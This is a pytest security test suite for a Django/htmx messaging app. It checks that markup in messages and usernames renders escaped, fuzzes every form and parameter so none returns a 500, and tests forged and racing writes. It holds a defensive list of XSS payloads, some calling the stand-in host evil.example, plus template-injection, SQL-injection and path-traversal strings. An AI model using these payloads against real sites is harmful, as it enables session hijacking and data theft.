"""Bad input: markup typed as text stays text, and no input at all makes a 500.

1. XSS payloads as message text, edits, replies and usernames, checked on every page
   that shows them (escaped, never raw, message text inside hx-disable).
2. Hypothesis fuzzing of every form and every id/page/cursor/version parameter:
   never a 500, a clear message, the typed text kept when the form comes back.
3. Forged and racing writes: a clear error and nothing half-written.
"""

from __future__ import annotations

import json
import re
import unicodedata
from datetime import datetime, timedelta, timezone
from html import unescape
from urllib.parse import urlencode

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.core.exceptions import PermissionDenied, ValidationError
from messaging.templatetags.chat import message_text
from django.test import Client, override_settings
from django.urls import reverse
from django.utils.html import escape
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from messaging import actions
from messaging.forms import ComposeForm
from messaging.models import Conversation, Message, MessageHistory, Notification

from .conftest import HX
from .security_helpers import PASSWORD, assert_inert, client_as, db_state, isolated

pytestmark = pytest.mark.django_db
User = get_user_model()

# --- Payloads ---------------------------------------------------------------------------------

# Each would run script, fire a request or restyle the page if it reached the DOM as
# markup; each carries "xss_pwn" where the damage would be, so assert_inert() can spot it
# (a marker with "_", which no CSRF token or generated id can contain).
XSS_PAYLOADS = [
    "<script>alert('xss_pwn')</script>",
    "<SCRIPT SRC=//evil.example/xss_pwn.js></SCRIPT>",
    "<script>/*xss_pwn*/fetch('/settings/',{method:'POST'})</script>",
    "<img src=x onerror=alert('xss_pwn')>",
    "<img src=\"javascript:alert('xss_pwn')\">",
    "<svg onload=alert('xss_pwn')>",
    "<svg><script>alert('xss_pwn')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('xss_pwn')\"><text>x</text></a></svg>",
    "<math><mtext><img src=x onerror=alert('xss_pwn')></mtext></math>",
    "<iframe src=\"javascript:alert('xss_pwn')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('xss_pwn')</script>\">",
    "<a href=\"javascript:alert('xss_pwn')\">click</a>",
    "<a href=\"JaVaScRiPt:alert('xss_pwn')\">click</a>",
    "<a href=\"data:text/html,<script>alert('xss_pwn')</script>\">x</a>",
    "<body onload=alert('xss_pwn')>",
    "<input autofocus onfocus=alert('xss_pwn')>",
    "<details open ontoggle=alert('xss_pwn')>",
    "<video><source onerror=alert('xss_pwn')></video>",
    "<object data=\"javascript:alert('xss_pwn')\"></object>",
    "<embed src=\"javascript:alert('xss_pwn')\">",
    "<form action=\"javascript:alert('xss_pwn')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('xss_pwn')\">go</button>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss_pwn')\">",
    "<base href=\"https://evil.example/xss_pwn/\">",
    "<link rel=stylesheet href=\"https://evil.example/xss_pwn.css\">",
    "<style>@import 'https://evil.example/xss_pwn.css';</style>",
    "<div style=\"background:url(javascript:alert('xss_pwn'))\">x</div>",
    "<div hx-get=\"/settings/\" hx-trigger=\"load\">",
    "<div hx-get=\"/settings/?xss_pwn\" hx-trigger=\"load\" hx-target=\"body\">",
    "<div hx-post=\"/settings/\" hx-vals='{\"xss_pwn\":1}' hx-trigger=\"load\">",
    "<button hx-delete=\"/xss_pwn\" hx-trigger=\"load\">x</button>",
    "<div hx-on:htmx:load=\"alert('xss_pwn')\">x</div>",
    "\"><script>alert('xss_pwn')</script>",
    "'><img src=x onerror=alert('xss_pwn')>",
    "</textarea><script>alert('xss_pwn')</script>",
    "</title><script>alert('xss_pwn')</script>",
    "<scr<script>ipt>alert('xss_pwn')</scr</script>ipt>",
    "<<script>alert('xss_pwn');//<</script>",
    "<img src=x onerror=alert('xss_pwn')",  # broken markup: never closed
    "<!--<img src=--><img src=x onerror=alert('xss_pwn')//-->",
    "<xss_pwn id=x tabindex=1 onfocus=alert(1)></xss_pwn>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss_pwn')>\">",
    "<scr\nipt>alert('xss_pwn')</scr\nipt>\n<b onclick=alert('xss_pwn')>bold</b>",
]
# Text that a template engine would evaluate: it must come out literally.
TEMPLATE_PAYLOADS = [
    "{{ request.user.password }} xss_pwn",
    "{% debug %} xss_pwn",
    "{{ 7|add:7 }} {{7*7}} xss_pwn",
    "${7*7} #{7*7} <%= 7*7 %> xss_pwn",
    "{% csrf_token %}{{ csrf_token }} xss_pwn",
    "{{ settings.SECRET_KEY }} xss_pwn",
    "&lt;script&gt;alert('xss_pwn')&lt;/script&gt;",  # already escaped: must not be unescaped
]
ALL_PAYLOADS = XSS_PAYLOADS + TEMPLATE_PAYLOADS
assert len(ALL_PAYLOADS) >= 30
assert all(len(p) <= 100 for p in ALL_PAYLOADS)  # shown whole even where lists truncate at 100


def _payload_id(payload: str) -> str:
    return re.sub(r"\W+", "_", payload)[:40]


@pytest.mark.parametrize("payload", [p for p in XSS_PAYLOADS if "xss_pwn" in p.lower()], ids=_payload_id)
def test_checker_would_spot_the_payload_as_markup(payload):
    """The checker is not vacuous: inserted raw where message text goes, each payload fails it."""
    page = f'<html><body><div class="message-body" hx-disable>{payload}</div></body></html>'
    with pytest.raises(AssertionError):
        assert_inert(page)


def _assert_shown_as_text(html: str, payload: str, *, form: str) -> None:
    assert_inert(html)
    if any(c in payload for c in "<>&\"'"):
        assert payload not in html, "the payload is in the page unescaped"
    expected = message_text(payload) if form == "linebreaksbr" else escape(payload)
    assert expected in html, f"the escaped text is missing ({form})"


@pytest.mark.parametrize("payload", ALL_PAYLOADS, ids=_payload_id)
def test_message_text_renders_escaped_everywhere(payload, alice, bob):
    """Sent, replied and edited through the views, then shown on the conversation, thread,
    history, inbox and notification pages (full page and htmx fragment) as text."""
    alice_client, bob_client = client_as(alice), client_as(bob)
    response = alice_client.post(reverse("messaging:compose"), {"to": "bob", "content": payload})
    assert response.status_code == 302
    message = Message.objects.get(sender=alice)
    assert message.content == payload.strip()
    reply_url = reverse("messaging:message-reply", args=[message.pk])
    assert bob_client.post(reply_url, {"content": payload}, headers=HX).status_code == 200
    conversation_url = message.conversation.get_absolute_url()
    assert alice_client.post(conversation_url, {"content": "draft"}).status_code == 302
    edited = Message.objects.get(content="draft")
    edit_url = reverse("messaging:message-edit", args=[edited.pk])
    assert alice_client.post(edit_url, {"content": payload}).status_code == 302
    edited.refresh_from_db()
    assert edited.content == payload.strip() and edited.edited
    payload = payload.strip()

    pages = [
        # (client, url, headers, how the text is rendered there)
        (bob_client, reverse("messaging:inbox"), {}, "escape"),  # before Bob opens the conversation
        (bob_client, reverse("messaging:notifications"), {}, "escape"),
        (alice_client, reverse("messaging:notifications"), {}, "escape"),  # Bob's reply
        (alice_client, reverse("messaging:inbox"), {}, "escape"),
        (bob_client, conversation_url, {}, "linebreaksbr"),
        (alice_client, conversation_url, {}, "linebreaksbr"),
        (bob_client, conversation_url, HX, "linebreaksbr"),
        (bob_client, reverse("messaging:conversation-messages", args=[message.conversation_id]) + "?since=0", HX,
         "linebreaksbr"),
        (bob_client, reverse("messaging:thread-detail", args=[message.pk]), {}, "linebreaksbr"),
        (bob_client, reverse("messaging:thread-detail", args=[message.pk]), HX, "linebreaksbr"),
        (bob_client, reverse("messaging:message-history", args=[edited.pk]), {}, "escape"),
        (bob_client, reverse("messaging:message-history", args=[edited.pk]), HX, "escape"),
        (bob_client, reverse("messaging:message-detail", args=[edited.pk]), HX, "linebreaksbr"),
        (bob_client, reply_url, {}, "linebreaksbr"),
        (alice_client, edit_url, {}, "escape"),  # the text in the edit box
        (alice_client, edit_url, HX, "escape"),
    ]  # fmt: skip
    for client, url, headers, form in pages:
        response = client.get(url, headers=headers)
        assert response.status_code == 200, url
        html = response.content.decode()
        try:
            _assert_shown_as_text(html, payload, form=form)
        except AssertionError as error:
            raise AssertionError(f"{url} htmx={bool(headers)}: {error}") from None
        assert "md5$" not in html and "pbkdf2" not in html  # no template evaluation leaked a hash


def test_message_bodies_sit_in_hx_disable(alice, bob, bob_client):
    """Every element that holds message text has hx-disable, so htmx ignores hx-* in it."""
    message = actions.send_message(alice, to=bob, content="<b>plain</b> body xss_pwn")
    reply = actions.reply_to_message(message, sender=bob, content="reply body xss_pwn")
    actions.edit_message(message, editor=alice, content="<i>edited</i> body xss_pwn")
    urls = [
        message.conversation.get_absolute_url(),
        reverse("messaging:thread-detail", args=[message.pk]),
        reverse("messaging:message-history", args=[message.pk]),
        reverse("messaging:notifications"),
        reverse("messaging:inbox"),
        reverse("messaging:thread-detail", args=[reply.pk]),
    ]
    for url in urls:
        html = bob_client.get(url).content.decode()
        assert "xss_pwn" in html, url
        assert_inert(html)  # includes: every text node with "xss_pwn" is inside hx-disable


def test_htmx_config_is_locked_down(alice_client):
    """htmx only talks to this origin, never runs <script> from a response, never evals."""
    for client, url in [(Client(), reverse("login")), (alice_client, reverse("messaging:inbox"))]:
        html = client.get(url).content.decode()
        match = re.search(r'<meta name="htmx-config" content=\'([^\']*)\'>', html)
        assert match, url
        config = json.loads(unescape(match.group(1)))
        assert config["selfRequestsOnly"] is True
        assert config["allowScriptTags"] is False
        assert config["allowEval"] is False
        assert_inert(html)  # no inline script, no on* handler in the page itself


# --- Usernames -----------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", [p for p in XSS_PAYLOADS if len(p) <= 150], ids=_payload_id)
def test_signup_refuses_markup_usernames(payload):
    client = client_as(None)
    response = client.post(
        reverse("signup"), {"username": payload, "password1": "a-long-pass-phrase", "password2": "a-long-pass-phrase"}
    )
    html = response.content.decode()
    assert response.status_code == 422
    assert "Enter a valid username" in html
    assert not User.objects.exists()
    assert payload not in html and escape(payload) in html  # kept in the box, escaped
    assert_inert(html, user_text_in_hx_disable=False)


# What Django's username validator lets through: letters (any script), digits, @ . + - _
ODD_BUT_VALID_USERNAMES = ["x.y@z+w-v_", "ñandú", "名前", "javascript", "xss_pwn.onerror", "@everyone", "a" * 150, "İstanbul"]


@pytest.mark.parametrize("username", ODD_BUT_VALID_USERNAMES)
def test_usernames_that_get_through_render_safely(username, client, bob, bob_client):
    password = "a-long-pass-phrase"
    response = client.post(reverse("signup"), {"username": username, "password1": password, "password2": password})
    assert response.status_code == 302, response.content.decode()[:2000]
    client.post(reverse("messaging:compose"), {"to": "bob", "content": "hi from an odd name"})
    message = Message.objects.get(receiver=bob)
    for url in [reverse("messaging:inbox"), reverse("messaging:notifications"), message.conversation.get_absolute_url()]:
        html = bob_client.get(url).content.decode()
        assert escape(username) in html
        assert_inert(html, user_text_in_hx_disable=False)


@pytest.mark.parametrize("lookalike", ["ＢＯＢ", "Bob", "BOB"])
def test_lookalike_usernames_are_refused(lookalike, client, bob):
    """NFKC-normalised and compared case-insensitively: nobody can pose as bob."""
    password = "a-long-pass-phrase"
    response = client.post(reverse("signup"), {"username": lookalike, "password1": password, "password2": password})
    assert response.status_code == 422 and "already exists" in response.content.decode()
    assert User.objects.count() == 1


@pytest.mark.parametrize("payload", [p for p in XSS_PAYLOADS if len(p) <= 150][::4], ids=_payload_id)
def test_markup_username_from_the_shell_is_escaped(payload, bob):
    """The validator is not the only defence: a username stored by a shell or a script
    (validators skipped) is escaped in every page and attribute that shows it."""
    villain = User.objects.create_user(username=payload, password=PASSWORD)
    bob_client = client_as(bob)
    message = actions.send_message(villain, to=bob, content="hello")
    actions.reply_to_message(message, sender=bob, content="who are you?")
    urls = [
        (reverse("messaging:inbox"), {}),
        (reverse("messaging:notifications"), {}),
        (message.conversation.get_absolute_url(), {}),
        (reverse("messaging:thread-detail", args=[message.pk]), {}),
        (reverse("messaging:user-search") + "?" + urlencode({"to": payload[:3]}), HX),
        (reverse("messaging:compose") + "?" + urlencode({"to": payload}), {}),
    ]
    for url, headers in urls:
        html = bob_client.get(url, headers=headers).content.decode()
        assert payload not in html, url
        assert escape(payload) in html, url
        assert_inert(html, user_text_in_hx_disable=False)


def test_every_markup_username_is_escaped_in_the_lists(bob):
    """All the payloads as usernames at once (the test above takes every fourth through
    every page): the inbox, the notifications and the user search list them all as text."""
    names = [p for p in XSS_PAYLOADS if len(p) <= 150]
    assert len(names) >= 30
    for name in names:
        villain = User.objects.create_user(username=name, password=PASSWORD)
        actions.send_message(villain, to=bob, content="hello")
    bob_client = client_as(bob)
    pages = [
        (reverse("messaging:inbox"), {}),
        (reverse("messaging:notifications"), {}),
        (reverse("messaging:user-search") + "?" + urlencode({"to": "<"}), HX),
    ]
    for url, headers in pages:
        html = bob_client.get(url, headers=headers).content.decode()
        assert_inert(html, user_text_in_hx_disable=False)
        if "search" in url:  # at most 8 matches, each escaped (assert_inert above)
            assert html.count('data-pick-username="') == 8, url
            continue
        shown = [name for name in names if escape(name) in html and name not in html]
        assert shown == names, (url, sorted(set(names) - set(shown))[:3])


# --- Fuzzing: forms ----------------------------------------------------------------------------------

FUZZ = hsettings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
NO_RATE_LIMITS = override_settings(RATELIMIT_ENABLE=False)

NASTY = [
    "", " ", "\x00", "a\x00b", "bob\x00", "\x00" * 3, "x" * 1_000_000, "y" * 5001, "é" * 5000, "😀" * 5001,
    "\u202eevil", "\ufeff", "\r\n\r\n", "\t", "-1", "0", "99999999999999999999", "1e308", "NaN", "None",
    "%00", "%s%n", "'; DROP TABLE messaging_message; --", "<script>alert('xss')</script>", "{{ request }}",
    "\\", "../../etc/passwd", "bob", " BOB ", "alice", PASSWORD,
]  # fmt: skip
texts = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=300),
    st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=40),
    st.text(alphabet="\x00\t\n\r <>&\"'\\%{}é😀", max_size=30),
)
ERROR_MARKERS = ("invalid-feedback", "alert-danger", "errorlist")


def _keeps(html: str, value: str) -> bool:
    """The typed value is back in the page (as Django renders a bound field)."""
    return escape(value) in html


def _assert_form_answer(response, *, typed: dict[str, str], success=(302,)):
    """Never a 500; a failure says why and gives the typed text back (when reasonably small).

    A body over DATA_UPLOAD_MAX_MEMORY_SIZE (several 1 MB fields at once) is refused before
    any form sees it: a 400 page that says why; no browser sends that (fields have maxlength)."""
    assert response.status_code < 500
    if int(response.wsgi_request.META.get("CONTENT_LENGTH") or 0) > settings.DATA_UPLOAD_MAX_MEMORY_SIZE:
        assert response.status_code == 400 and b"too large" in response.content
        return False
    if response.status_code in success or response.get("HX-Redirect"):
        return True
    assert response.status_code in (200, 422), response.status_code
    html = response.content.decode()
    assert any(marker in html for marker in ERROR_MARKERS), "no error message in the redisplayed form"
    for field, value in typed.items():
        # Whitespace-only text is an error ("can't be empty") and crispy's spaceless
        # rendering folds it; anything with content must come back.
        if len(value) <= 10_000 and value.strip():
            assert _keeps(html, value), f"the typed {field} was lost"
    return False


@NO_RATE_LIMITS
@FUZZ
@given(to=texts, content=texts, htmx=st.booleans())
def test_fuzz_compose(alice_client, bob, to, content, htmx):
    with isolated():
        response = alice_client.post(reverse("messaging:compose"), {"to": to, "content": content}, headers=HX if htmx else {})
        sent = _assert_form_answer(response, typed={"to": to, "content": content}, success=(302,))
        if sent:
            assert Message.objects.filter(content=content.strip()).count() == 1
        else:
            assert not Message.objects.exists()


@NO_RATE_LIMITS
@FUZZ
@given(content=texts, htmx=st.booleans())
def test_fuzz_send_in_conversation(alice_client, conversation, content, htmx):
    with isolated():
        before = Message.objects.count()
        response = alice_client.post(conversation.get_absolute_url(), {"content": content}, headers=HX if htmx else {})
        sent = _assert_form_answer(response, typed={"content": content}, success=(302, 200) if htmx else (302,))
        assert Message.objects.count() == before + (1 if sent else 0)


@NO_RATE_LIMITS
@FUZZ
@given(content=texts, thread=st.sampled_from(["", "1", "-1", "\x00", "x" * 5000, "9" * 30]), htmx=st.booleans())
def test_fuzz_reply(bob_client, message, content, thread, htmx):
    with isolated():
        url = reverse("messaging:message-reply", args=[message.pk])
        response = bob_client.post(url, {"content": content, "thread": thread}, headers=HX if htmx else {})
        sent = _assert_form_answer(response, typed={"content": content}, success=(302, 200) if htmx else (302,))
        assert message.replies.count() == (1 if sent else 0)


@NO_RATE_LIMITS
@FUZZ
@given(
    content=texts,
    base=st.one_of(texts, st.just(actions.content_token("Hello Bob")), st.just("")),
    htmx=st.booleans(),
)
def test_fuzz_edit(alice_client, message, content, base, htmx):
    with isolated():
        url = reverse("messaging:message-edit", args=[message.pk])
        response = alice_client.post(url, {"content": content, "base": base}, headers=HX if htmx else {})
        saved = _assert_form_answer(response, typed={"content": content}, success=(302, 200) if htmx else (302,))
        message.refresh_from_db()
        if saved:
            assert message.content == content.strip()
        else:
            assert message.content == "Hello Bob" and not MessageHistory.objects.exists()


@FUZZ
@given(password=texts, htmx=st.booleans())
def test_fuzz_delete_account_password(alice_client, alice, password, htmx):
    with isolated():
        alice_client.force_login(alice)
        response = alice_client.post(reverse("messaging:delete-user"), {"password": password}, headers=HX if htmx else {})
        assert response.status_code < 500
        deleted = not User.objects.filter(pk=alice.pk).exists()
        assert deleted == (password == PASSWORD)
        if not deleted:
            assert response.status_code == 422
            html = response.content.decode()
            assert "not right" in html or "Null characters" in html or "required" in html
            box = re.search(r'<input type="password" name="password"[^>]*>', html)
            assert box and "value=" not in box.group(0)  # a password is never echoed back


@NO_RATE_LIMITS
@FUZZ
@given(username=texts, password=texts)
def test_fuzz_login(alice, client, username, password):
    with isolated():
        client.cookies.clear()
        response = client.post(reverse("login"), {"username": username, "password": password})
        logged_in = _assert_form_answer(response, typed={"username": username} if username.strip() else {})
        assert logged_in == (unicodedata.normalize("NFKC", username.strip()) == "alice" and password == PASSWORD)


@FUZZ
@given(username=texts, password1=texts, same=st.booleans(), password2=texts)
def test_fuzz_signup(alice, client, username, password1, same, password2):
    with isolated():
        client.cookies.clear()
        data = {"username": username, "password1": password1, "password2": password1 if same else password2}
        response = client.post(reverse("signup"), data)
        created = _assert_form_answer(response, typed={"username": username} if username.strip() else {})
        assert User.objects.count() == (2 if created else 1)


def test_a_body_over_the_upload_limit_gets_a_page_that_says_why(client):
    big = "x" * 1_000_000
    response = client.post(reverse("signup"), {"username": big, "password1": big, "password2": big})
    assert response.status_code == 400
    assert b"too large" in response.content and b"5,000 characters" in response.content
    assert not User.objects.exists()


@FUZZ
@given(query=texts, htmx=st.booleans())
def test_fuzz_user_search(alice_client, bob, query, htmx):
    with isolated():
        response = alice_client.get(reverse("messaging:user-search"), {"to": query}, headers=HX if htmx else {})
        assert response.status_code == (200 if htmx else 302)
        if not htmx:
            page = alice_client.get(response["Location"])
            assert page.status_code == 200
            shown = query.replace("\x00", "").strip()[:150]
            assert escape(shown) in page.content.decode()
        page = alice_client.get(reverse("messaging:compose"), {"to": query})
        assert page.status_code == 200 and escape(query[:150]) in page.content.decode()


# --- Fuzzing: ids, pages, cursors, versions -------------------------------------------------------------

offsets = st.timedeltas(min_value=-timedelta(hours=23, minutes=59), max_value=timedelta(hours=23, minutes=59))
cursors = st.builds(
    lambda when, pk: f"{when.isoformat()}_{pk}",
    st.datetimes(
        min_value=datetime(1, 1, 1),
        max_value=datetime(9999, 12, 31, 23, 59, 59),
        timezones=st.one_of(st.none(), offsets.map(timezone)),
    ),
    st.integers(min_value=-(2**80), max_value=2**80),
)
numbers = st.one_of(
    st.integers(min_value=-(2**80), max_value=2**80).map(str),
    st.sampled_from(["-1", "0", "1", "9223372036854775807", "9223372036854775808", "1e3", "0x10", " 7", "七"]),
)
params = st.one_of(numbers, cursors, texts)


@FUZZ
@given(v=params, since=params, before=params, htmx=st.booleans())
def test_fuzz_conversation_parameters(alice_client, conversation, v, since, before, htmx):
    with isolated():
        headers = HX if htmx else {}
        url = reverse("messaging:conversation-messages", args=[conversation.pk])
        for query in ({"v": v}, {"v": v, "since": since}, {"v": v, "before": before}, {"since": since, "before": before}):
            assert alice_client.get(url, query, headers=headers).status_code == 200
        poll = reverse("messaging:conversation-poll", args=[conversation.pk])
        assert alice_client.get(poll, {"v": v}, headers=headers).status_code in (200, 204, 302)


@FUZZ
@given(unread_after=params, conversations_after=params, after=params, htmx=st.booleans())
def test_fuzz_page_cursors(bob_client, message, unread_after, conversations_after, after, htmx):
    with isolated():
        headers = HX if htmx else {}
        inbox = reverse("messaging:inbox")
        for query in ({"unread_after": unread_after}, {"conversations_after": conversations_after}):
            assert bob_client.get(inbox, query, headers=headers).status_code == 200
        assert bob_client.get(reverse("messaging:notifications"), {"after": after}, headers=headers).status_code == 200


ID_PATHS = [
    ("GET", "/conversations/{}/"),
    ("POST", "/conversations/{}/"),
    ("GET", "/conversations/{}/messages/"),
    ("GET", "/conversations/{}/poll/"),
    ("GET", "/messages/{}/"),
    ("GET", "/messages/{}/reply/"),
    ("POST", "/messages/{}/reply/"),
    ("GET", "/messages/{}/edit/"),
    ("POST", "/messages/{}/edit/"),
    ("GET", "/messages/{}/history/"),
    ("GET", "/messages/{}/thread/"),
    ("POST", "/notifications/{}/read/"),
]
path_ids = st.one_of(
    st.integers(min_value=10**6, max_value=10**40).map(str),
    st.sampled_from(["0", "00", "99999999999999999999", "9223372036854775807", "9223372036854775808", "-1", "1e3"]),
    st.text(max_size=20).filter(lambda s: s and not s.isdigit()),
)


@FUZZ
@given(raw_id=path_ids, htmx=st.booleans())
def test_fuzz_path_ids(alice_client, message, raw_id, htmx):
    """Ids nobody has (huge, zero, negative, not a number) are a 404, never a 500."""
    from urllib.parse import quote

    with isolated():
        for method, template in ID_PATHS:
            url = template.format(quote(raw_id, safe=""))
            response = getattr(alice_client, method.lower())(url, headers=HX if htmx else {})
            assert response.status_code == 404, (method, url, response.status_code)


def test_literal_huge_ids_are_404(alice_client):
    for url in ["/messages/99999999999999999999/", "/conversations/99999999999999999999/messages/?v=1",
                "/messages/99999999999999999999/thread/", "/messages/99999999999999999999/history/"]:  # fmt: skip
        for headers in ({}, HX):
            assert alice_client.get(url, headers=headers).status_code == 404


def test_extreme_cursors_are_ignored_not_500(bob_client, message):
    """Regression: an offset at the edge of the calendar used to overflow (500)."""
    for cursor in ["9999-12-31T23:59:59-23:59_1", "0001-01-01T00:00:00+23:59_1", "2020-01-01_99999999999999999999999"]:
        for param in ("unread_after", "conversations_after"):
            assert bob_client.get(reverse("messaging:inbox"), {param: cursor}).status_code == 200
        assert bob_client.get(reverse("messaging:notifications"), {"after": cursor}).status_code == 200


def test_nul_in_every_text_field_is_a_form_error(alice_client, bob_client, message, conversation, client):
    """PostgreSQL refuses NUL in text: every form says so instead of reaching the database."""
    typed = "before\x00after"
    cases = [
        (alice_client, reverse("messaging:compose"), {"to": "bob", "content": typed}, "content"),
        (alice_client, reverse("messaging:compose"), {"to": "bo\x00b", "content": "hello"}, "to"),
        (alice_client, conversation.get_absolute_url(), {"content": typed}, "content"),
        (bob_client, reverse("messaging:message-reply", args=[message.pk]), {"content": typed}, "content"),
        (alice_client, reverse("messaging:message-edit", args=[message.pk]), {"content": typed}, "content"),
        (alice_client, reverse("messaging:delete-user"), {"password": typed}, None),
        (client, reverse("login"), {"username": "ali\x00ce", "password": typed}, "username"),
        (client, reverse("signup"), {"username": "ne\x00w", "password1": typed, "password2": typed}, "username"),
    ]
    before = db_state()
    for http, url, data, kept in cases:
        for headers in ({}, HX):
            response = http.post(url, data, headers=headers)
            html = response.content.decode()
            assert response.status_code in (200, 422), url
            assert "Null characters are not allowed" in html or "NUL" in html, url
            if kept:
                assert escape(data[kept]) in html, url
    assert db_state() == before
    assert alice_client.get(reverse("messaging:user-search"), {"to": "bo\x00b"}, headers=HX).status_code == 200


def test_oversized_request_body_is_refused_cleanly(alice_client, conversation):
    response = alice_client.post(conversation.get_absolute_url(), {"content": "x" * 3_000_000})
    assert response.status_code == 400
    assert not Message.objects.filter(content__startswith="xxx").exists()


# --- Forged and racing writes ---------------------------------------------------------------------------


def test_reply_to_a_message_of_another_conversation(alice, bob, carol, alice_client, message):
    """Alice cannot answer inside Bob and Carol's conversation, by URL or by a forged field."""
    theirs = actions.send_message(bob, to=carol, content="between us")
    before = db_state()
    for headers in ({}, HX):
        url = reverse("messaging:message-reply", args=[theirs.pk])
        assert alice_client.post(url, {"content": "forged"}, headers=headers).status_code == 404
    with pytest.raises(PermissionDenied):
        actions.reply_to_message(theirs, sender=alice, content="forged")
    assert db_state() == before
    # Extra fields naming their message or conversation are ignored.
    forged = {"content": "mine", "parent_message": theirs.pk, "conversation": theirs.conversation_id,
              "receiver": carol.pk, "sender": bob.pk}  # fmt: skip
    assert alice_client.post(message.conversation.get_absolute_url(), forged).status_code == 302
    reply_url = reverse("messaging:message-reply", args=[message.pk])
    assert alice_client.post(reply_url, {**forged, "content": "my reply"}).status_code == 302
    for sent in Message.objects.filter(content__in=["mine", "my reply"]):
        assert (sent.sender, sent.receiver, sent.conversation_id) == (alice, bob, message.conversation_id)
        assert sent.parent_message_id in (None, message.pk)


def test_edit_a_deleted_message(alice, bob, alice_client, message):
    url = reverse("messaging:message-edit", args=[message.pk])
    assert alice_client.get(url).status_code == 200  # the edit box is open...
    stale = Message.objects.get(pk=message.pk)
    actions.delete_account(bob)  # ...when Bob deletes his account, and the message with it
    for headers in ({}, HX):
        assert alice_client.post(url, {"content": "too late"}, headers=headers).status_code == 404
    with pytest.raises(ValidationError, match="deleted"):
        actions.edit_message(stale, editor=alice, content="too late")
    assert not Message.objects.exists() and not MessageHistory.objects.exists()


def test_reply_to_a_deleted_message(alice, bob, bob_client, message):
    stale = Message.objects.get(pk=message.pk)
    url = reverse("messaging:message-reply", args=[message.pk])
    Message.objects.filter(pk=message.pk).delete()
    before = db_state()
    assert bob_client.post(url, {"content": "too late"}).status_code == 404
    with pytest.raises(ValidationError, match="deleted"):
        actions.reply_to_message(stale, sender=bob, content="too late")
    assert db_state() == before


def test_send_to_a_user_deleted_meanwhile(alice, bob, alice_client, message, monkeypatch):
    conversation_url = message.conversation.get_absolute_url()
    stale_bob = User.objects.get(pk=bob.pk)

    # The race inside one request: the form found Bob, then his account went.
    original = ComposeForm.clean_to

    def clean_to_then_bob_leaves(form):
        user = original(form)
        actions.delete_account(User.objects.get(pk=user.pk))
        return user

    monkeypatch.setattr(ComposeForm, "clean_to", clean_to_then_bob_leaves)
    response = alice_client.post(reverse("messaging:compose"), {"to": "bob", "content": "are you there?"})
    html = response.content.decode()
    assert response.status_code == 422
    assert "no longer has an account" in html and "are you there?" in html
    assert not Message.objects.exists() and not Notification.objects.exists() and not Conversation.objects.exists()
    monkeypatch.undo()

    with pytest.raises(ValidationError, match="no longer has an account"):
        actions.send_message(alice, to=stale_bob, content="hello?")
    before = db_state()
    for headers in ({}, HX):
        # The conversation went with him; the form page says who is gone.
        assert alice_client.post(conversation_url, {"content": "hello?"}, headers=headers).status_code == 404
        response = alice_client.post(reverse("messaging:compose"), {"to": "bob", "content": "hello?"}, headers=headers)
        assert response.status_code == 422 and "There is no user called" in response.content.decode()
    assert db_state() == before
